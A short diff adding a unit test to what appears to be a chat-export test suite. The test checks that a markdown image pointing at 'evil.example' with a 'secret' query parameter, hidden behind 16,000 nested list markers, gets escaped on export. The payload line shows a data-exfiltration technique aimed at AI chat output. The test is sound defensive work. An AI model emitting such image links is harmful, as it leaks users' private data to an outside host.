@@ -60,6 +60,11 @@ describe('an exported conversation', () => {
     expect(remoteIn(exported(part))).toEqual([]);
   });
 
+  it('is there also of an answer that is nested too deep to be read', () => {
+    const text = `${'- '.repeat(16_000)}![](https://evil.example/?d=secret)`;
+    expect(exported({ type: 'text', text })).toContain('!\\[](https://evil.example');
+  });
+
   it('keeps links, emphasis and code', () => {
     const text =
       '**Done**: [PAY-1](https://acme.atlassian.net/browse/PAY-1) <https://acme.example/a>\n\n```ts\nconst a: List<B> = c![0];\n```\n';
